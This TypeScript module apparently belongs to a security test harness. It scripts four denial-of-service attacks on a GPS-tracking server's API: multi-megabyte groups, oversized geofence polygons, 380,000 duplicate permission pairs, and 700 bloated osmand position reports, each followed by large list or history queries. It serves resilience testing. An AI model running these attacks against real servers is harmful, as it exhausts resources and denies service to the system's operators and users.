import { type Attack, inTurns } from '../attack.ts'
import { cookieOf, request } from '../request.ts'
import type { Scene } from '../scene.ts'

const megabytes = (count: number): string => 'x'.repeat(count * 1_000_000)

async function callerOf({ httpPort: port, mallory }: Scene) {
  const headers = { cookie: await cookieOf(port, mallory), 'content-type': 'application/json' }
  return {
    post: (path: string, body: string) => request({ port, method: 'POST', path, headers, body }),
    get: (path: string) => request({ port, path, headers }),
  }
}

/** Groups as large as a body may be. */
export const largeGroups: Attack = {
  name: 'large groups',
  what: '55 groups with 9.5 MB of attributes each',
  async run(scene, signal) {
    const { post, get } = await callerOf(scene)
    const attributes = { text: megabytes(9.5) }
    await inTurns({ atOnce: 4, max: 55, signal }, (at) =>
      post('/api/groups', JSON.stringify({ name: `group ${at}`, attributes })),
    )
    if (!signal.aborted) await get('/api/groups')
  },
}

/** So many large fences that their list exceeds the maximum size of an answer. */
export const largeFences: Attack = {
  name: 'large fences',
  what: '60 fences of 9 MB each, then their list',
  async run(scene, signal) {
    const { post, get } = await callerOf(scene)
    const area = `POLYGON ((${'1.00000 1.00000, '.repeat(500_000)}1 1))`
    await inTurns({ atOnce: 4, max: 60, signal }, (at) =>
      post('/api/geofences', JSON.stringify({ name: `fence ${at}`, area })),
    )
    while (!signal.aborted) await get('/api/geofences')
  },
}

/** One call that links the same pair again and again. */
export const equalLinks: Attack = {
  name: 'equal links',
  what: 'one call with 380,000 equal pairs',
  async run(scene, signal) {
    const { post } = await callerOf(scene)
    const pairs = Array(380_000).fill({ userId: scene.mallory.id, deviceId: scene.victim.id })
    const body = JSON.stringify(pairs)
    await inTurns({ atOnce: 2, max: 4, signal }, () => post('/api/permissions/bulk', body))
  },
}

/** Parameters that make every row of a history very large, then that history. */
export const largeParameters: Attack = {
  name: 'large parameters',
  what: '700 osmand requests with 1 MB of parameters, then the history of the unit',
  async run(scene, signal) {
    const { get } = await callerOf(scene)
    const port = scene.devicePorts.osmand
    const long = megabytes(1)
    const headers = { 'content-type': 'application/x-www-form-urlencoded' }
    await inTurns({ atOnce: 10, max: 700, signal }, (at) => {
      const place = `id=${scene.victim.uniqueId}&lat=1&lon=1&timestamp=${1_780_000_000 + at}`
      return request({ port, method: 'POST', path: `/?${place}`, headers, body: `${place}&note=${long}` })
    })
    const range = `deviceId=${scene.victim.id}&from=2026-01-01T00:00:00Z&to=2026-12-31T00:00:00Z`
    if (!signal.aborted) await get(`/api/positions?${range}`)
  },
}
